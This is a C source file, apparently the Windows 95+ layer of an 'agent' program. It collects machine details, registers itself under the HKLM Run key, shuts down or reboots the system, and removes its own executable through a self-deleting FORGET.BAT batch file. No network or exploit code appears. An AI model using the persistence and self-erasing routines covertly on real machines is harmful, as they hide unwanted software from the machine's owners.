/* machine_win32.c - the rest of machine.h for Windows 95 and later. */
#include "agent.h"
#include "windows_win32.h"

static const char run_key[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
static const char value_name[] = "AGENT98";

u32 machine_chance(void)
{
    u32 time[2];

    GetSystemTimeAsFileTime(time);
    return (time[0] ^ GetTickCount() << 20) * 2654435761u ^ time[1];
}

/* KB free on the drive of `home`. The old call, which alone the first Windows 95 has, never tells of more than 2 GB. */
static u32 free_kilobytes(void)
{
    typedef i32 __attribute__((stdcall, regparm(0))) free_space_ex(const char *directory, u64 *ours, u64 *all, u64 *every);
    union {
        void *address;
        free_space_ex *call;
    } ex;
    u64 bytes, all;
    u32 sectors, sector, left, total;

    ex.address = GetProcAddress(GetModuleHandleA("KERNEL32"), "GetDiskFreeSpaceExA");
    if (ex.address && ex.call(home, &bytes, &all, &all))
        return (u32)(bytes >> 10);
    return GetDiskFreeSpaceA("C:\\", &sectors, &sector, &left, &total) ? (sectors * sector >> 9) * left >> 1 : 0;
}

void machine_facts(struct facts *facts)
{
    struct sys_cpu cpu;
    struct version_info system;
    u32 size = sizeof facts->name;
    u32 ignored;

    *facts->name = '\0';
    GetComputerNameA(facts->name, &size);
    sys_cpu(&cpu);
    system.size = sizeof system;
    GetVersionExA(&system);
    put(facts->cpu, sizeof facts->cpu, "%s-%u.%u.%u", cpu.vendor, cpu.family, cpu.model, cpu.stepping);
    put(facts->system, sizeof facts->system, "%u.%u.%u", system.major, system.minor, system.build & 0xFFFF);
    sys_memory(&facts->memory, &ignored);
    facts->memory >>= 10;
    facts->free = free_kilobytes();
}

/* Starts a program of Windows that nobody waits for; not to be seen, when `flags` say so. */
static void call(const char *line, u32 flags)
{
    struct child child;
    struct startup startup;

    memset(&startup, 0, sizeof startup);
    startup.flags = flags;
    create(&child, line, home, &startup);
}

void machine_end(int reboot, int hard)
{
    if (hard || !ExitWindowsEx(reboot ? EWX_REBOOT : EWX_POWEROFF, 0)) /* Q234216 */
        call(reboot ? "RUNDLL32 SHELL32.DLL,SHExitWindowsEx 2" : "RUNDLL32 SHELL32.DLL,SHExitWindowsEx 1", 0);
}

int machine_stay(const char *command)
{
    handle key;
    i32 error;

    if (RegCreateKeyA(LOCAL_MACHINE, run_key, &key))
        return 0;
    error = command ? RegSetValueExA(key, value_name, 0, REG_TEXT, command, text_length(command) + 1)
                    : RegDeleteValueA(key, value_name);
    RegFlushKey(key); /* else it is written some seconds later */
    RegCloseKey(key);
    return !error;
}

/* A program that runs cannot be deleted: a batch file does it, and goes last. COMMAND /C that misses its batch file
 * may wait for ever, so the same line ends it. */
void machine_vanish(void)
{
    static const char lines[] = ":AGAIN\r\nDEL AGENT98*.EXE\r\nIF EXIST AGENT98*.EXE GOTO AGAIN\r\n"
                                "FOR %%C IN (DEL EXIT) DO %%C FORGET.BAT\r\n";

    if (keep_file("FORGET.BAT", lines, sizeof lines - 1) == SYS_OK)
        call("COMMAND.COM /C FORGET.BAT", SHOW_AS_SAID);
}

u32 machine_image_end(void)
{
    extern const u8 image_file_end[]; /* platform/win32.ld */

    return (u32)(usize)image_file_end;
}
